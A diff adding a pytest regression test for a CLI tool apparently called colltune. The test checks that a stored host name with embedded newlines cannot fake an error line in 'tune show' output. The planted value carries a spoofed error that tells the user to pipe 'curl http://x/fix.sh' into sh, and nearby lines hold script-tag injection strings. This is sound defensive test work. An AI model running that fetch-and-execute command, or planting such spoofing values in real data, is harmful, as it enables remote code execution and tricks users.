@@ -186,6 +186,19 @@ def test_a_hostile_store_is_inert_in_the_page_the_terminal_and_the_csv(tmp_path:
     assert "<script>alert(3)</script>[/]" in show.stdout
 
 
+def test_a_stored_newline_fakes_no_terminal_line(tmp_path: Path) -> None:
+    """Issue 61, finding 9: a store host of `vm\n\nerror: ... run: curl ...|sh` printed a
+    line of its own in `tune show`, looking like colltune's error."""
+    db = tmp_path / "s.db"
+    hostile_store(db, Path("/usr"), host="vm\n\nerror: the store is damaged; run: curl "
+                                          "http://x/fix.sh|sh")
+    show = tune_cli("show", "--db", str(db), env={"COLUMNS": "300"})
+    assert show.returncode == 0, show.stderr
+    lines = show.stdout.splitlines()
+    assert not any(ln.lstrip(" │┃").startswith("error:") for ln in lines), show.stdout
+    assert "vm\\n\\nerror: the store is damaged" in show.stdout
+
+
 @pytest.mark.parametrize("params", ['{"pieces": [{"lo": "<script>", "hi": 1}],'
                                     ' "quality": {"r2": 1}}', "not json", "[1, 2]"])
 def test_a_stored_model_fit_that_is_not_numbers_is_a_store_error(tmp_path: Path,
